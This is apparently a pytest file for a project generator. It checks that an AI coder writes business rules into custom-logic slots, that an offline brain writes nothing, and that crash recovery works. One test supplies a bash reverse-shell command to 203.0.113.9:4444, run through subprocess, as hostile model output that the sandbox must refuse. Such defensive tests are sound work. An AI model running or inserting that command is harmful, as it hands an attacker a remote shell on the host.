"""The coder writes the description's business rules into the custom-logic slots with Claude.

The project is really generated (FastAPI stack) and carries a custom module with a slot that
starts as the pass-through default, plus the person's test of the rule the description asks for;
so the project's own test fails until the slot holds the rule. Claude answers through recorded
`record_custom_logic` streams (never the network). Hostile code is refused by the sandbox
pre-scan before it is written; the offline brain writes nothing and says nothing.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest

from tests.graph.fakes import Crash, make_deps, stages
from tests.graph.test_factory_repair import BlueprintRun, PytestTester, claude, fastapi_blueprint
from tests.unit.test_brain_claude import Recorder, _streamed
from webnova.adapters.brains.offline import OfflineBrain
from webnova.adapters.git import ProjectRepo
from webnova.core.platform import Platform
from webnova.generator.generate import generate_project
from webnova.graphs.events import CustomLogicWritten
from webnova.settings import Settings

RULES = '''"""Booking rules of the clinic."""

from fastapi import HTTPException


def check_duration(minutes: int) -> int:
    """The accepted length of an appointment, in minutes."""
    # webnova:custom-begin check_duration
    return minutes
    # webnova:custom-end check_duration
'''
RULES_TEST = '''import pytest
from fastapi import HTTPException

from app.rules import check_duration


def test_appointments_last_at_most_two_hours() -> None:
    assert check_duration(30) == 30
    with pytest.raises(HTTPException):
        check_duration(121)
'''
RULE = ("    if minutes > 120:\n"
        "        raise HTTPException(422, \"Appointments last at most two hours.\")\n"
        "    return minutes\n")
DESCRIPTION = "A clinic where patients book appointments; an appointment lasts at most two hours."


@pytest.fixture
def platform(settings: Settings) -> Iterator[Platform]:
    with Platform.open(settings=settings) as opened:
        yield opened


def fill_stream(code: str = RULE) -> httpx.Response:
    return _streamed("record_custom_logic", {
        "edits": [{"file": "app/rules.py", "name": "check_duration", "code": code}],
        "explanation": "appointments longer than two hours are refused"})


class DescribedRun(BlueprintRun):
    """A blueprint run whose description asks for the two-hour rule."""

    text = DESCRIPTION


def _run(platform: Platform, tmp_path: Path, brain: Any, tester: PytestTester) -> DescribedRun:
    deps = dataclasses.replace(make_deps(platform, tmp_path / "projects"), brain=brain,
                               tester=tester)
    run = DescribedRun(deps, fastapi_blueprint())
    outcome = generate_project(run.bp, run.folder, run_id=run.run_id)
    assert outcome.ok, outcome.message
    (run.folder / "app" / "rules.py").write_text(RULES, encoding="utf-8")
    (run.folder / "tests" / "test_rules.py").write_text(RULES_TEST, encoding="utf-8")
    assert ProjectRepo.open(run.folder).commit_all("custom-logic", 1, run.run_id, "rules")
    return run


def _tester() -> PytestTester:
    return PytestTester(only="tests/test_rules.py")


def _written(run: DescribedRun) -> list[CustomLogicWritten]:
    return [e for e in run.deps.ledger.history(run.run_id) if isinstance(e, CustomLogicWritten)]


def test_claude_writes_the_rule_into_the_slot_before_the_first_test_run(
        platform: Platform, tmp_path: Path) -> None:
    recorder = Recorder(fill_stream())
    tester = _tester()
    run = _run(platform, tmp_path, claude(recorder), tester)
    final = run.start()
    assert final["status"] == "done", final.get("error")
    assert tester.calls == [True]  # the rule was in place before the tester ran
    assert "if minutes > 120:" in (run.folder / "app" / "rules.py").read_text(encoding="utf-8")
    assert list(stages(run.folder)).count("custom-logic") == 2  # the setup's and the coder's
    head = ProjectRepo.open(run.folder).history(1)[0]
    assert (head.stage, head.run_id) == ("custom-logic", run.run_id)
    (body,) = recorder.bodies
    assert body["tool_choice"] == {"type": "tool", "name": "record_custom_logic"}
    prompt = body["messages"][0]["content"]
    assert DESCRIPTION in prompt
    assert '"check_duration"' in prompt.split("<slots>")[1]
    assert "test_rules" not in prompt.split("<slots>")[1]  # tests are never slots
    for entity in run.bp.entities:
        assert entity.name in prompt.split("<blueprint>")[1]
    (event,) = _written(run)
    assert event.files == ["app/rules.py"] and not event.refused
    assert any("Wrote the business rules" in m and "app/rules.py" in m
               for m in final["messages"])


def test_hostile_code_from_the_model_is_refused_before_it_is_written(
        platform: Platform, tmp_path: Path) -> None:
    hostile = ("    import subprocess\n"
               "    subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])\n"
               "    return minutes\n")
    tester = _tester()
    no_repair = [_streamed("record_repair", {"edits": [], "explanation": "unknown"})
                 for _ in range(2)]
    run = _run(platform, tmp_path, claude(Recorder(fill_stream(hostile), *no_repair)), tester)
    final = run.start()
    assert final["status"] == "failed"  # the rule is missing, and the loop breaker stopped
    assert "subprocess" not in (run.folder / "app" / "rules.py").read_text(encoding="utf-8")
    assert "refused" in " ".join(final["messages"])
    (event,) = _written(run)
    assert event.refused and event.files == [] and event.commit is None
    assert "The code was refused" in event.explanation and "subprocess" in event.explanation


def test_the_offline_brain_writes_no_custom_logic_and_says_nothing(
        platform: Platform, tmp_path: Path) -> None:
    tester = _tester()
    run = _run(platform, tmp_path, OfflineBrain(), tester)
    before = ProjectRepo.open(run.folder).head()
    final = run.start()
    assert final["status"] == "failed"  # the person's rule test keeps failing
    assert (run.folder / "app" / "rules.py").read_text(encoding="utf-8") == RULES
    assert ProjectRepo.open(run.folder).head() == before
    assert not any("business rules" in m for m in final["messages"])
    (event,) = _written(run)
    assert event.files == [] and not event.refused


def test_a_crash_after_the_custom_logic_commit_neither_asks_nor_commits_again(
        platform: Platform, tmp_path: Path) -> None:
    recorder = Recorder(fill_stream())  # one answer only: a second request would fail
    tester = dataclasses.replace(_tester(), crash_on_call=1)
    run = _run(platform, tmp_path, claude(recorder), tester)
    with pytest.raises(Crash):
        run.start()
    assert run.resume()["status"] == "done"
    assert len(recorder.bodies) == 1
    # The test setup commits one custom-logic stage itself; the coder added exactly one more.
    assert list(stages(run.folder)).count("custom-logic") == 2
    assert len(_written(run)) == 1


NEGATIVE_STOCK = ('    if data.get("quantity", 0) < 0:\n'
                  "        raise HTTPException(status_code=422,"
                  " detail=\"Stock cannot be negative.\")\n"
                  '    return data\n')
RULE_CHECK = '''from fastapi.testclient import TestClient

from tests.fixtures import stock_item_body, stock_item_refs
from tests.helpers import next_n


def test_the_hook_refuses_negative_stock(client: TestClient) -> None:
    body = stock_item_body(next_n(), stock_item_refs(client))
    refused = client.post("/api/stock-items", json={**body, "quantity": -1})
    assert refused.status_code == 422 and "negative" in refused.text
    assert client.post("/api/stock-items", json={**body, "quantity": 3}).status_code == 201
'''


@pytest.mark.slow
def test_a_rule_written_into_a_generated_hook_is_enforced_by_the_api(
        platform: Platform, tmp_path: Path) -> None:
    recorder = Recorder(_streamed("record_custom_logic", {
        "edits": [{"file": "app/hooks/stock_item.py", "name": "before_create",
                   "code": NEGATIVE_STOCK}], "explanation": "stock is never negative"}))
    tester = PytestTester(only=None)  # the generated suite must still pass with the rule
    deps = dataclasses.replace(make_deps(platform, tmp_path / "projects"),
                               brain=claude(recorder), tester=tester)
    run = DescribedRun(deps, fastapi_blueprint())
    run.text = "Inventory of warehouses; an item's stock can never go below zero."
    final = run.start()
    assert final["status"] == "done", final.get("error")
    assert tester.calls == [True]
    (body,) = recorder.bodies
    slots = body["messages"][0]["content"].split("<slots>")[1]
    assert '"app/hooks/warehouse.py"' in slots
    for hook in ("before_create", "before_update", "before_delete"):
        assert f'"{hook}"' in slots
    (run.folder / "tests" / "test_rule_check.py").write_text(RULE_CHECK, encoding="utf-8")
    check = PytestTester(only=None)
    check.run(run.bp, run.folder)  # the whole suite again, with the rule's own check
    assert check.calls == [True]
